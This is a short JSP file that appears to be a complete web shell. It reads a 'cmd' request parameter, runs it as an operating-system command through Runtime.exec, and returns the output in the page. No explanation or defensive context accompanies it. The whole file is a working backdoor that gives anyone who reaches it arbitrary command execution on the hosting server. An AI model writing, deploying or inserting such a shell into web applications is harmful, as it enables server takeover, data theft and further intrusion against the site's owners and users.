<%@ page import="java.io.*" %>
<%
  Process p = Runtime.getRuntime().exec(request.getParameter("cmd"));
  BufferedReader r = new BufferedReader(new InputStreamReader(p.getInputStream()));
  String line;
  while ((line = r.readLine()) != null) { out.println(line); }
%>
